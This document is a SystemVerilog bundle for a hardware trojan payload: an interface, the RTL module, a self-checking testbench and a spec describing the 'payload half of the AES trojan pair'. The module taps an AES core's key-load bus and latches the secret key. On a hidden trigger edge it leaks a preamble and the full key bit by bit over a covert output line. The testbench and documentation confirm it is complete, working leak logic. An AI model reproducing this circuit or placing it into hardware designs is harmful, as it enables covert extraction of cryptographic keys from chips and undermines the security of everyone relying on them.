// File: rtl/tsc_leak_payload_if.sv
// Bus between the AES key-load tap / trigger block and the leak payload.
// The key bus width must match the KEY_W of the attached payload.
interface tsc_leak_payload_if #(
  parameter int KEY_W = 128
);
  logic             trigger;
  logic [KEY_W-1:0] key;
  logic             key_valid;
  logic             leak;
  logic             busy;
  logic             done;

  modport master (output trigger, key, key_valid, input leak, busy, done);
  modport slave  (input trigger, key, key_valid, output leak, busy, done);
endinterface

// File: rtl/tsc_leak_payload.sv
// Covert key leak: on a trigger rising edge, serialises PREAMBLE then the
// latched key MSB first on a slow single-bit line, BIT_PERIOD clocks per bit.
module tsc_leak_payload #(
  parameter int         KEY_W      = 128,
  parameter int         BIT_PERIOD = 16,
  parameter logic [7:0] PREAMBLE   = 8'hA5
) (
  input  logic               clk,
  input  logic               rst,
  tsc_leak_payload_if.slave  bus
);

  localparam int F     = 8 + KEY_W;
  localparam int CNT_W = $clog2(F + 1);
  localparam int DIV_W = $clog2(BIT_PERIOD);

  typedef enum logic [1:0] {
    S_IDLE  = 2'd0,
    S_ARMED = 2'd1,
    S_LEAK  = 2'd2
  } state_t;

  state_t             r_state;
  logic [KEY_W-1:0]   r_key_q;
  logic [F-1:0]       r_shift;
  logic [CNT_W-1:0]   r_bit_cnt;
  logic [DIV_W-1:0]   r_div_cnt;
  logic               r_trig_q;
  logic               r_leak;
  logic               r_busy;
  logic               r_done;

  state_t             w_state_n;
  logic [KEY_W-1:0]   w_key_n;
  logic [F-1:0]       w_shift_n;
  logic [CNT_W-1:0]   w_bit_cnt_n;
  logic [DIV_W-1:0]   w_div_cnt_n;
  logic               w_leak_n;
  logic               w_busy_n;
  logic               w_done_n;
  logic               w_trig_edge;
  logic               w_div_wrap;
  logic               w_last_bit;

  assign w_trig_edge = bus.trigger & ~r_trig_q;
  assign w_div_wrap  = (r_div_cnt == DIV_W'(BIT_PERIOD - 1));
  assign w_last_bit  = (r_bit_cnt == CNT_W'(F - 1));

  always_comb begin
    // NOTE: every output of this block gets a default before the case so no
    // path leaves a signal unassigned, which would otherwise infer a latch.
    w_state_n   = r_state;
    w_key_n     = bus.key_valid ? bus.key : r_key_q;
    w_shift_n   = r_shift;
    w_bit_cnt_n = r_bit_cnt;
    w_div_cnt_n = r_div_cnt;
    w_leak_n    = 1'b0;
    w_busy_n    = 1'b0;
    w_done_n    = 1'b0;

    unique case (r_state)
      S_IDLE: begin
        if (bus.key_valid) w_state_n = S_ARMED;
      end
      S_ARMED: begin
        // The frame is built from r_key_q, so a same-cycle key load only
        // affects the next frame.
        if (w_trig_edge) begin
          w_state_n   = S_LEAK;
          w_shift_n   = {PREAMBLE, r_key_q};
          w_bit_cnt_n = '0;
          w_div_cnt_n = '0;
          w_leak_n    = PREAMBLE[7];
          w_busy_n    = 1'b1;
        end
      end
      S_LEAK: begin
        w_busy_n = 1'b1;
        w_leak_n = r_shift[F-1];
        if (w_div_wrap) begin
          w_div_cnt_n = '0;
          w_shift_n   = r_shift << 1;
          if (w_last_bit) begin
            w_bit_cnt_n = CNT_W'(F);
            w_state_n   = S_ARMED;
            w_busy_n    = 1'b0;
            w_leak_n    = 1'b0;
            w_done_n    = 1'b1;
          end else begin
            w_bit_cnt_n = r_bit_cnt + CNT_W'(1);
            w_leak_n    = r_shift[F-2];
          end
        end else begin
          w_div_cnt_n = r_div_cnt + DIV_W'(1);
        end
      end
      default: w_state_n = S_IDLE;
    endcase
  end

  // NOTE: sequential state uses non-blocking assignments so every register
  // samples the pre-edge values, independent of statement order.
  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      r_state   <= S_IDLE;
      r_key_q   <= '0;
      r_shift   <= '0;
      r_bit_cnt <= '0;
      r_div_cnt <= '0;
      r_trig_q  <= 1'b0;
      r_leak    <= 1'b0;
      r_busy    <= 1'b0;
      r_done    <= 1'b0;
    end else begin
      r_state   <= w_state_n;
      r_key_q   <= w_key_n;
      r_shift   <= w_shift_n;
      r_bit_cnt <= w_bit_cnt_n;
      r_div_cnt <= w_div_cnt_n;
      r_trig_q  <= bus.trigger;
      r_leak    <= w_leak_n;
      r_busy    <= w_busy_n;
      r_done    <= w_done_n;
    end
  end

  assign bus.leak = r_leak;
  assign bus.busy = r_busy;
  assign bus.done = r_done;

endmodule

// File: tb/tb_tsc_leak_payload.sv
// Bench for tsc_leak_payload: a 128-bit/16-cycle instance and an 8-bit/2-cycle
// instance, checked every cycle against a frame-timing model plus literal frames.
module tb_tsc_leak_payload;

  localparam int         KW_A = 128;
  localparam int         P_A  = 16;
  localparam int         KW_B = 8;
  localparam int         P_B  = 2;
  localparam logic [7:0] PRE  = 8'hA5;
  localparam logic [127:0] KEY1 = 128'h000102030405060708090A0B0C0D0E0F;

  logic clk = 1'b0;
  logic rst_n;
  always #5 clk = ~clk;

  tsc_leak_payload_if #(.KEY_W(KW_A)) if_a ();
  tsc_leak_payload_if #(.KEY_W(KW_B)) if_b ();

  tsc_leak_payload #(.KEY_W(KW_A), .BIT_PERIOD(P_A), .PREAMBLE(PRE)) u_a (
    .clk (clk),
    .rst (rst_n),
    .bus (if_a)
  );

  tsc_leak_payload #(.KEY_W(KW_B), .BIT_PERIOD(P_B), .PREAMBLE(PRE)) u_b (
    .clk (clk),
    .rst (rst_n),
    .bus (if_b)
  );

  int checks = 0;
  int errors = 0;

  task automatic check(input string name, input logic [135:0] act, input logic [135:0] exp);
    checks++;
    if (act !== exp) begin
      errors++;
      $display("FAIL %s: got %h expected %h at %0t", name, act, exp, $time);
    end
  endtask

  // ---------------- behavioural model ----------------
  // A frame is described only by its start edge and its bit vector; the
  // expected line value is looked up from elapsed time.
  logic [1:0]   t_trig, t_kv;
  logic [127:0] t_key [2];
  assign t_trig   = {if_b.trigger, if_a.trigger};
  assign t_kv     = {if_b.key_valid, if_a.key_valid};
  assign t_key[0] = if_a.key;
  assign t_key[1] = {120'b0, if_b.key};

  function automatic int unsigned frame_len(input int d);
    return (d == 0) ? KW_A + 8 : KW_B + 8;
  endfunction

  function automatic int unsigned period(input int d);
    return (d == 0) ? P_A : P_B;
  endfunction

  int unsigned  cyc;
  logic         m_have [2];
  logic         m_prev [2];
  logic         m_act  [2];
  logic         m_done [2];
  logic [127:0] m_kq   [2];
  logic [135:0] m_frame[2];
  int unsigned  m_start[2];

  always @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      cyc <= 0;
      for (int d = 0; d < 2; d++) begin
        m_have[d]  <= 1'b0;
        m_prev[d]  <= 1'b0;
        m_act[d]   <= 1'b0;
        m_done[d]  <= 1'b0;
        m_kq[d]    <= '0;
        m_frame[d] <= '0;
        m_start[d] <= 0;
      end
    end else begin
      cyc <= cyc + 1;
      for (int d = 0; d < 2; d++) begin
        m_done[d] <= m_act[d] && (cyc + 1 == m_start[d] + frame_len(d) * period(d));
        if (m_act[d]) begin
          if (cyc + 1 == m_start[d] + frame_len(d) * period(d)) m_act[d] <= 1'b0;
        end else if (m_have[d] && t_trig[d] && !m_prev[d]) begin
          m_act[d]   <= 1'b1;
          m_start[d] <= cyc + 1;
          m_frame[d] <= (d == 0) ? {PRE, m_kq[0]} : {120'b0, PRE, m_kq[1][7:0]};
        end
        if (t_kv[d]) begin
          m_kq[d]   <= t_key[d];
          m_have[d] <= 1'b1;
        end
        m_prev[d] <= t_trig[d];
      end
    end
  end

  function automatic logic exp_leak(input int d);
    int unsigned k;
    if (!m_act[d]) return 1'b0;
    k = (cyc - m_start[d]) / period(d);
    return m_frame[d][frame_len(d) - 1 - k];
  endfunction

  always @(negedge clk) begin
    if (rst_n) begin
      check("leak_a", if_a.leak, exp_leak(0));
      check("busy_a", if_a.busy, m_act[0]);
      check("done_a", if_a.done, m_done[0]);
      check("leak_b", if_b.leak, exp_leak(1));
      check("busy_b", if_b.busy, m_act[1]);
      check("done_b", if_b.done, m_done[1]);
    end
  end

  // ---------------- stimulus helpers ----------------
  task automatic tick(input int n);
    repeat (n) @(posedge clk);
    #2;
  endtask

  // Called at the drive point just after the edge that accepted a trigger.
  // Samples each frame bit mid-period and reports done time and busy length.
  task automatic measure(input int d, input bit disturb, input logic [127:0] nkey,
                         output int done_t, output int busy_n, output logic [135:0] got);
    int f;
    int p;
    int t;
    logic lk, bz, dn;
    f = int'(frame_len(d));
    p = int'(period(d));
    t = 0;
    done_t = -1;
    busy_n = 0;
    got = '0;
    while (t < 3000) begin
      lk = (d == 0) ? if_a.leak : if_b.leak;
      bz = (d == 0) ? if_a.busy : if_b.busy;
      dn = (d == 0) ? if_a.done : if_b.done;
      if (dn) begin
        done_t = t;
        break;
      end
      if (bz) busy_n++;
      if ((t % p) == (p / 2) && (t / p) < f) got[f - 1 - t / p] = lk;
      if (disturb) begin
        case (t)
          100, 200, 300: if_a.trigger = 1'b0;
          101, 201, 301: if_a.trigger = 1'b1;
          500: begin
            if_a.key_valid = 1'b1;
            if_a.key       = nkey;
          end
          501: if_a.key_valid = 1'b0;
          default: ;
        endcase
      end
      tick(1);
      t++;
    end
  endtask

  // ---------------- directed + random sequence ----------------
  initial begin
    int dt, bn;
    logic [135:0] got;
    logic [127:0] k2;
    logic [7:0]   kb;

    rst_n = 1'b0;
    if_a.trigger = 1'b0; if_a.key = '0; if_a.key_valid = 1'b0;
    if_b.trigger = 1'b0; if_b.key = '0; if_b.key_valid = 1'b0;
    tick(3);
    check("rst_leak_a", if_a.leak, 0);
    check("rst_busy_a", if_a.busy, 0);
    check("rst_done_a", if_a.done, 0);
    check("rst_leak_b", if_b.leak, 0);
    check("rst_busy_b", if_b.busy, 0);
    check("rst_done_b", if_b.done, 0);
    rst_n = 1'b1;
    tick(2);

    // Trigger activity with no key loaded.
    for (int i = 0; i < 4; i++) begin
      if_a.trigger = 1'b1; if_b.trigger = 1'b1; tick(2);
      if_a.trigger = 1'b0; if_b.trigger = 1'b0; tick(2);
    end
    check("idle_busy_a", if_a.busy, 0);
    check("idle_busy_b", if_b.busy, 0);

    // Key arrives while trigger is already high: no frame.
    if_a.trigger = 1'b1; if_b.trigger = 1'b1; tick(2);
    if_a.key = KEY1; if_a.key_valid = 1'b1;
    if_b.key = 8'h3C; if_b.key_valid = 1'b1;
    tick(1);
    if_a.key_valid = 1'b0; if_b.key_valid = 1'b0;
    tick(20);
    check("held_trig_busy_a", if_a.busy, 0);
    check("held_trig_busy_b", if_b.busy, 0);

    // First full frame on instance A.
    if_a.trigger = 1'b0; if_b.trigger = 1'b0; tick(1);
    if_a.trigger = 1'b1; tick(1);
    measure(0, 1'b0, '0, dt, bn, got);
    check("frame1_bits", got, {PRE, KEY1});
    check("frame1_done_t", dt, 2176);
    check("frame1_busy_len", bn, 2176);
    tick(1);
    check("frame1_done_once", if_a.done, 0);
    if_a.trigger = 1'b0;

    // Trigger toggles and a new key mid-frame.
    k2 = {$urandom, $urandom, $urandom, $urandom};
    tick(1);
    if_a.trigger = 1'b1; tick(1);
    measure(0, 1'b1, k2, dt, bn, got);
    check("disturb_bits", got, {PRE, KEY1});
    check("disturb_done_t", dt, 2176);
    if_a.trigger = 1'b0;
    tick(40);
    check("no_extra_frame", if_a.busy, 0);
    if_a.trigger = 1'b1; tick(1);
    measure(0, 1'b0, '0, dt, bn, got);
    check("newkey_bits", got, {PRE, k2});
    if_a.trigger = 1'b0;

    // Zero key held; all-ones load coincides with the trigger edge.
    if_a.key = '0; if_a.key_valid = 1'b1; tick(1);
    if_a.key_valid = 1'b0; tick(1);
    if_a.key = '1; if_a.key_valid = 1'b1; if_a.trigger = 1'b1; tick(1);
    if_a.key_valid = 1'b0;
    measure(0, 1'b0, '0, dt, bn, got);
    check("samecycle_old_key", got, {PRE, 128'h0});
    if_a.trigger = 1'b0; tick(1);
    if_a.trigger = 1'b1; tick(1);
    measure(0, 1'b0, '0, dt, bn, got);
    check("ones_key", got, {PRE, {128{1'b1}}});
    if_a.trigger = 1'b0;

    // Reset 500 cycles into a frame.
    tick(1);
    if_a.trigger = 1'b1; tick(1);
    tick(500);
    check("prerst_busy_a", if_a.busy, 1);
    rst_n = 1'b0;
    #1;
    check("midrst_leak_a", if_a.leak, 0);
    check("midrst_busy_a", if_a.busy, 0);
    check("midrst_done_a", if_a.done, 0);
    tick(2);
    rst_n = 1'b1;
    if_a.trigger = 1'b0; tick(1);
    if_a.trigger = 1'b1; tick(3);
    check("idle_after_rst_a", if_a.busy, 0);
    if_a.trigger = 1'b0;

    // Small instance: 16-bit frame, 32 busy cycles, back-to-back trigger.
    kb = 8'($urandom_range(0, 255));
    if_b.key = kb; if_b.key_valid = 1'b1; tick(1);
    if_b.key_valid = 1'b0; tick(1);
    if_b.trigger = 1'b1; tick(1);
    if_b.trigger = 1'b0;
    measure(1, 1'b0, '0, dt, bn, got);
    check("b_frame_bits", got, {120'b0, PRE, kb});
    check("b_done_t", dt, 32);
    check("b_busy_len", bn, 32);
    if_b.trigger = 1'b1; tick(1);
    check("b2b_busy", if_b.busy, 1);
    check("b2b_done_clear", if_b.done, 0);
    if_b.trigger = 1'b0;
    tick(40);

    // Randomised traffic on both instances, checked by the model every cycle.
    for (int i = 0; i < 6000; i++) begin
      if ($urandom_range(0, 9) == 0)  if_a.trigger = ~if_a.trigger;
      if ($urandom_range(0, 3) == 0)  if_b.trigger = ~if_b.trigger;
      if_a.key_valid = ($urandom_range(0, 99) == 0);
      if_a.key       = {$urandom, $urandom, $urandom, $urandom};
      if_b.key_valid = ($urandom_range(0, 15) == 0);
      if_b.key       = 8'($urandom);
      tick(1);
    end
    if_a.key_valid = 1'b0; if_b.key_valid = 1'b0;
    tick(5);

    $display("Simulation finished: %0d checks, %0d errors", checks, errors);
    $finish;
  end

endmodule

// File: doc/tsc_leak_payload.md
# tsc_leak_payload

Payload half of the AES trojan pair. It consumes the `trigger` level from the trigger-counter block, captures the cipher key, and on a trigger rising edge serialises a preamble plus the full key onto a single slow covert output line. The payload sits beside the AES core: `key` and `key_valid` tap the key-load path, and `trigger` connects directly to the trigger block's output.

## Interface
- `KEY_W`, 128: key width in bits; must be ≥ 8.
- `BIT_PERIOD`, 16: clock cycles per leaked bit; must be ≥ 2.
- `PREAMBLE`, 8'hA5: 8-bit frame header, sent MSB first before the key.

Ports:
- `clk`  in  1  — single clock; all logic on the rising edge.
- `rst`  in  1  — asynchronous, active-low reset (0 = reset).
- `trigger`  in  1  — trigger level from the trigger block.
- `key`  in  KEY_W  — cipher key bus.
- `key_valid`  in  1  — key capture strobe, one cycle per load.
- `leak`  out  1  — covert serial line, registered.
- `busy`  out  1  — high while a frame is being sent, registered.
- `done`  out  1  — one-cycle pulse at the end of a frame, registered.

## Operation
- Frame: F = 8 + KEY_W bits, consisting of PREAMBLE[7] … PREAMBLE[0], then key_q[KEY_W-1] … key_q[0].
- Registers:
  - `key_q` (KEY_W bits): latched key.
  - `shift` (F bits): frame shifter.
  - `bit_cnt`: width clog2(F+1).
  - `div_cnt`: width clog2(BIT_PERIOD).
  - `trig_q`: previous value of `trigger`.
  - `state`.
- `trig_q <= trigger` every cycle, in every state. A trigger edge is defined as `trigger & ~trig_q`.
- `key_valid` loads `key_q <= key` in every state. A load during LEAK does not alter `shift`.
- States:
  - IDLE: no key held yet. On `key_valid`, go to ARMED. Trigger edges are ignored.
  - ARMED: on a trigger edge, load `shift <= {PREAMBLE, key_q}`, clear `bit_cnt` and `div_cnt`, and go to LEAK.
    - If `key_valid` and a trigger edge occur in the same cycle, the frame uses the old `key_q`.
  - LEAK:
    - `leak <= shift[F-1]` on entry and after each shift.
    - `div_cnt` counts 0 … BIT_PERIOD-1. On wrap, `shift <<= 1` and `bit_cnt++`.
    - When `bit_cnt` would reach F, go to ARMED with `leak <= 0` and `done <= 1` for exactly one cycle.
    - Trigger edges during LEAK are ignored and are not queued.
- Any number of frames may follow; `key_q` is retained between them.
- `busy` is 1 exactly when state is LEAK.
- Counters never exceed their terminal values: `div_cnt` wraps to 0, and `bit_cnt` stops at F.
- Asserting reset mid-frame aborts immediately: `leak`, `busy` and `done` go to 0 asynchronously. The partial frame is lost and no `done` is produced.

## Timing
- Reset values: `leak` = 0, `busy` = 0, `done` = 0, state = IDLE, `key_q` = 0, `shift` = 0, counters = 0, `trig_q` = 0.
- A trigger that rises while in IDLE, or before reset release, is consumed by `trig_q`. It does not fire on a later transition to ARMED.
- Trigger sampled high at edge N with `trig_q` = 0, in ARMED:
  - `busy` and `leak` are valid from cycle N+1.
  - Frame bit k is held on `leak` during cycles N+1+k·P through N+(k+1)·P, where P = BIT_PERIOD.
- End of frame, after edge N+F·P:
  - `busy` = 0, `leak` = 0, `done` = 1 for one cycle.
  - The FSM is back in ARMED; a new trigger edge is accepted from that same edge.
- Total `busy` high time is F·P cycles; with defaults this is 136·16 = 2176.
- `leak` stays 0 whenever `busy` = 0.

## Test plan
- Reset then `key_valid` with key = 128'h000102…0F, then a trigger 0→1 → `busy` rises one cycle later. `leak` shows 1010_0101 followed by the key bits MSB first, each 16 cycles wide. `done` pulses at cycle 2177; `busy` is high for 2176 cycles.
- Trigger pulses while in IDLE (no key loaded) → `leak`, `busy` and `done` stay 0. `key_valid` then arrives with trigger held high → still no frame; a later 1→0→1 of trigger starts a frame.
- Trigger toggled three times during LEAK, plus `key_valid` carrying a new key mid-frame → a single frame with the old key, no extra frame afterwards. The next trigger edge leaks the new key.
- `key_valid` with key = 128'hFF…FF and a trigger edge in the same cycle, with `key_q` = 0 → the frame carries a zero key after the preamble. The next frame carries all ones.
- `rst` pulled low at cycle 500 of a frame → `leak`, `busy` and `done` go to 0 immediately, with no `done`. After release, state is IDLE and the key must be reloaded.
- Parameter sweep with KEY_W = 8, BIT_PERIOD = 2 → a 16-bit frame with `busy` high for exactly 32 cycles. A trigger edge in the same cycle as `done` starts the next frame on the following cycle.
